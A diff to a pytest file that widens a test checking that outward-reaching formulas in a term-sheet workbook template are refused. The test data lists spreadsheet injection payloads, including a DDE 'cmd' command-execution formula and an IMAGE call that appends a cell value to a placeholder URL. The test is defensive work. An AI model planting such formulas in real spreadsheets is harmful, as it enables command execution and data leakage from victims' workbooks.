@@ -45,7 +45,9 @@ def test_a_formula_reading_another_workbook_is_refused(tmp_path):
 
 
 @pytest.mark.parametrize("formula", ['=INDIRECT("[secret.xlsx]Sheet!A1")', "=[1]Sheet1!A1",
-                                     "=WEBSERVICE(\"http://example.invalid\")", "=cmd|' /C calc'!A0"])
+                                     "=WEBSERVICE(\"http://example.invalid\")", "=cmd|' /C calc'!A0",
+                                     '=_xlfn.STOCKHISTORY("SPX",TODAY())', '=_xlfn.IMAGE("http://x.invalid/"&B4)',
+                                     '=CUBEVALUE("conn","[Measures].[x]")'])
 def test_formulas_that_reach_outside_are_refused(tmp_path, formula):
     wb = openpyxl.load_workbook(NOTE_TEMPLATE)
     wb["Term Sheet"]["H2"] = formula
